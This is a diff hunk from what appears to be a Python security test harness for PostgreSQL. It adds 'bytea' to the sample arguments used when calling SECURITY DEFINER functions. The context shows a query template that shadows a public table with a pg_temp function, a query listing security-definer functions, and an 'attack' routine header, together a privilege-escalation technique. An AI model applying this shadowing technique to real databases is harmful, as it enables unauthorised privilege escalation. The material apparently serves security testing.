@@ -19,7 +19,13 @@ SHADOW = """
     SELECT real.* FROM (SELECT pg_temp.seize() AS ran OFFSET 0) AS trap LEFT JOIN public.{table} AS real ON true
     WHERE trap.ran"""
 DEFINERS = "SELECT proname, proargtypes::regtype[]::text[] AS types FROM pg_proc WHERE prosecdef"
-ARGUMENTS = {"text": "word", "tsquery": "word", "integer": "1", "uuid": "01a2084b-9065-752d-aaf7-35b94206de34"}
+ARGUMENTS = {
+    "bytea": "word",
+    "text": "word",
+    "tsquery": "word",
+    "integer": "1",
+    "uuid": "01a2084b-9065-752d-aaf7-35b94206de34",
+}
 
 
 async def attack(cluster: Cluster) -> tuple[int, list[str]]:
